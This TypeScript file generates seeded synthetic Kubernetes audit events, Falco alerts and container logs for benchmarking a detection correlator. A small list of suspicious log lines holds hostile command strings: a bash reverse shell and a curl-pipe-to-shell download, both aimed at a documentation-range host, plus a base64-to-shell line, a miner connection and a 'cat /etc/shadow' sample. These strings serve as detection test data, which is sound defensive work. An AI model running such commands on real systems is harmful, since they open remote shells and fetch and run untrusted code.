/**
 * Decoded events for the detection benchmark, as the collector stores them: native audit.k8s.io/v1 events, Falco
 * JSON alerts and CRI container log lines, generated and then run through the ingest decoders themselves
 * (decodeK8sAudit, decodeFalco, decodeContainerLogs), so fields and shapes are exactly what the correlator reads.
 *
 * The mix is a busy but ordinary cluster: mostly control-plane and workload traffic (controllers watching and
 * updating, service accounts reading their secrets and config maps), people listing and describing things, and a
 * trickle of what the bundled rules look for — pod exec, secret reads, 401 bursts from outside, cluster-admin
 * bindings, shells and miners in Falco, reverse-shell one-liners in logs. Deterministic (seeded) so runs compare.
 */
import { decodeContainerLogs, decodeFalco, decodeK8sAudit } from '@bulwark/ingest';
import { pick, prng } from './lib.js';

export interface EventMix {
  events: unknown[];
  byDataset: Record<string, number>;
  /** Event time covered, ms. */
  spanMs: number;
}

const T0 = Date.parse('2026-11-29T08:00:00.000Z');
const NAMESPACES = ['payments', 'checkout', 'storefront', 'monitoring', 'default', 'ingress', 'data'];
const APPS = ['api', 'worker', 'web', 'cron', 'gateway', 'exporter'];
const CONTROLLERS = [
  'system:serviceaccount:kube-system:replicaset-controller', 'system:serviceaccount:kube-system:endpointslice-controller',
  'system:kube-scheduler', 'system:kube-controller-manager', 'system:node:ip-10-20-1-33', 'system:node:ip-10-20-2-41',
];
const PEOPLE = ['alice@example.com', 'bob@example.com', 'carol@example.com', 'system:serviceaccount:ci:deployer'];

const hex = (r: () => number, n: number) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');

type Kind = 'audit' | 'falco' | 'container';
interface Record_ { kind: Kind; body: unknown; path?: string }

/** One native audit event at `t` (ms). */
function audit(r: () => number, t: number): unknown {
  const x = r();
  const ns = pick(r, NAMESPACES);
  let user: string, ip: string, verb: string, resource: string, code = 200, sub: string | undefined, name: string | undefined;
  let groups = ['system:authenticated'];
  if (x < 0.45) {
    user = pick(r, CONTROLLERS);
    ip = `10.20.0.${1 + Math.floor(r() * 3)}`;
    verb = pick(r, ['get', 'list', 'watch', 'update', 'patch', 'update']);
    resource = pick(r, ['pods', 'endpoints', 'leases', 'nodes', 'replicasets', 'events', 'endpointslices']);
    name = `${resource}-${Math.floor(r() * 200)}`;
  } else if (x < 0.8) {
    const app = pick(r, APPS);
    user = `system:serviceaccount:${ns}:${app}`;
    ip = `10.244.${NAMESPACES.indexOf(ns)}.${10 + APPS.indexOf(app)}`;
    verb = pick(r, ['get', 'get', 'list', 'watch']);
    resource = pick(r, ['configmaps', 'secrets', 'configmaps', 'services', 'pods']);
    name = `${app}-${resource === 'secrets' ? 'credentials' : 'config'}`;
    groups = ['system:serviceaccounts', `system:serviceaccounts:${ns}`, 'system:authenticated'];
  } else if (x < 0.985) {
    user = pick(r, PEOPLE);
    ip = `198.51.100.${10 + PEOPLE.indexOf(user)}`;
    const y = r();
    verb = y < 0.6 ? 'list' : y < 0.85 ? 'get' : y < 0.93 ? 'patch' : 'create';
    resource = pick(r, ['pods', 'deployments', 'services', 'secrets', 'configmaps', 'ingresses']);
    if (verb === 'create' && r() < 0.3) [resource, sub] = ['pods', pick(r, ['exec', 'exec', 'portforward', 'attach'])];
    if (verb === 'create' && r() < 0.05) [resource, sub] = ['clusterrolebindings', undefined];
    if (verb !== 'list') name = `${pick(r, APPS)}-${hex(r, 5)}`;
    if (r() < 0.04) code = 403;
  } else {
    user = '';
    ip = `203.0.113.${Math.floor(r() * 8)}`;
    verb = pick(r, ['list', 'get']);
    resource = pick(r, ['secrets', 'pods', 'namespaces']);
    code = 401;
    groups = [];
  }
  const id = `${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-a${hex(r, 3)}-${hex(r, 12)}`;
  const time = new Date(t).toISOString().replace('Z', '123Z');
  const objectRef: Record<string, unknown> = { resource, namespace: resource === 'nodes' || resource === 'clusterrolebindings' ? undefined : ns, name, apiVersion: 'v1' };
  if (sub) objectRef.subresource = sub;
  const event: Record<string, unknown> = {
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Metadata', auditID: id, stage: 'ResponseComplete',
    requestURI: `/api/v1/namespaces/${ns}/${resource}${name ? `/${name}` : ''}${sub ? `/${sub}` : ''}`, verb,
    user: user ? { username: user, uid: hex(r, 8), groups } : {}, sourceIPs: [ip],
    userAgent: user.startsWith('system:') ? 'kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46' : 'kubectl/v1.31.2 (linux/amd64)',
    objectRef, responseStatus: { metadata: {}, code },
    requestReceivedTimestamp: time, stageTimestamp: time,
    annotations: code < 400 ? { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': 'RBAC: allowed by RoleBinding' } : {},
  };
  if (resource === 'clusterrolebindings') {
    event.level = 'RequestResponse';
    event.requestObject = { kind: 'ClusterRoleBinding', roleRef: { kind: 'ClusterRole', name: r() < 0.5 ? 'cluster-admin' : 'view' }, subjects: [{ kind: 'User', name: user }] };
  }
  return event;
}

const FALCO_RULES = [
  ['Terminal shell in container', 'Notice', 'bash', 'bash'],
  ['Read sensitive file untrusted', 'Warning', 'cat', 'cat /etc/shadow'],
  ['Launch Package Management Process in Container', 'Error', 'apt-get', 'apt-get install -y curl'],
  ['Contact K8S API Server From Container', 'Notice', 'curl', 'curl -k https://10.96.0.1/api'],
  ['Write below etc', 'Error', 'sed', 'sed -i s/a/b/ /etc/hosts'],
  ['Unexpected outbound connection destination', 'Notice', 'node', 'node server.js'],
] as const;

function falco(r: () => number, t: number): unknown {
  const [rule, priority, proc, cmd] = pick(r, FALCO_RULES);
  const ns = pick(r, NAMESPACES);
  const pod = `${pick(r, APPS)}-${hex(r, 5)}-${hex(r, 5)}`;
  const time = new Date(t).toISOString().replace('Z', '123456Z');
  return {
    hostname: `ip-10-20-${Math.floor(r() * 4)}-${Math.floor(r() * 250)}`, priority, rule, source: 'syscall', tags: ['container', 'mitre_execution'], time,
    output: `${time}: ${priority} ${rule} (user=root process=${proc} command=${cmd} container_id=${hex(r, 12)})`,
    output_fields: {
      'evt.time': t * 1e6, 'evt.type': 'execve', 'user.name': 'root', 'user.uid': 0, 'proc.name': proc, 'proc.cmdline': cmd,
      'proc.exepath': `/usr/bin/${proc}`, 'proc.pid': Math.floor(r() * 30000), 'proc.pname': 'runc', 'container.id': hex(r, 12),
      'container.name': 'app', 'container.image.repository': `ghcr.io/acme/${pick(r, APPS)}`, 'container.image.tag': '2.4.1',
      'k8s.ns.name': ns, 'k8s.pod.name': pod,
    },
    uuid: `${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-a${hex(r, 3)}-${hex(r, 12)}`,
  };
}

const LOG_LINES = [
  () => `INFO handled GET /api/v2/items/%d in %dms`, () => `WARN slow query on orders table took %dms (rows=%d)`,
  () => `ERROR upstream timeout after %dms, retry %d`, () => `INFO cache hit ratio %d%% over %d keys`,
  () => `{"level":"info","msg":"request done","status":200,"latency_ms":%d,"bytes":%d}`,
];
const SUSPICIOUS = ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'curl -s http://198.51.100.7/x.sh | sh', 'echo ZWNobyBoaQ== | base64 -d | sh', 'stratum+tcp://pool.example:3333 connected'];

function container(r: () => number, t: number): Record_ {
  const ns = pick(r, NAMESPACES);
  const app = pick(r, APPS);
  const pod = `${app}-7d9f8-${hex(r, 5)}`;
  const line = r() < 0.002 ? pick(r, SUSPICIOUS) : pick(r, LOG_LINES)().replace('%d', String(Math.floor(r() * 1e5))).replace('%d', String(Math.floor(r() * 900)));
  const time = new Date(t).toISOString().replace('Z', '123456Z');
  return { kind: 'container', body: `${time} stdout F ${line}\n`, path: `/var/log/containers/${pod}_${ns}_${app}-${hex(r, 64)}.log` };
}

/** `total` decoded events at `perSecond` events per second of event time: 65 % audit, 10 % Falco, 25 % logs. */
export function generateEvents(total: number, seed = 42, perSecond = 250): EventMix {
  const r = prng(seed);
  const records: Record_[] = [];
  for (let i = 0; i < total; i++) {
    const t = T0 + Math.floor((i * 1000) / perSecond);
    const x = r();
    records.push(x < 0.65 ? { kind: 'audit', body: audit(r, t) } : x < 0.75 ? { kind: 'falco', body: falco(r, t) } : container(r, t));
  }
  const now = new Date(T0 + Math.ceil((total * 1000) / perSecond) + 1000);
  const events = records.map((rec) => {
    const result =
      rec.kind === 'audit' ? decodeK8sAudit(Buffer.from(JSON.stringify(rec.body)), { now })
      : rec.kind === 'falco' ? decodeFalco(Buffer.from(JSON.stringify(rec.body)), { now })
      : decodeContainerLogs(Buffer.from(rec.body as string), { now, path: rec.path! });
    if (result.errors.length > 0 || result.events.length !== 1) throw new Error(`bench record did not decode: ${JSON.stringify(result.errors)}`);
    return JSON.parse(JSON.stringify(result.events[0])) as unknown; // as stored: plain JSON
  });
  const byDataset: Record<string, number> = {};
  for (const e of events) {
    const d = (e as { event: { dataset: string } }).event.dataset;
    byDataset[d] = (byDataset[d] ?? 0) + 1;
  }
  return { events, byDataset, spanMs: Math.ceil((total * 1000) / perSecond) };
}
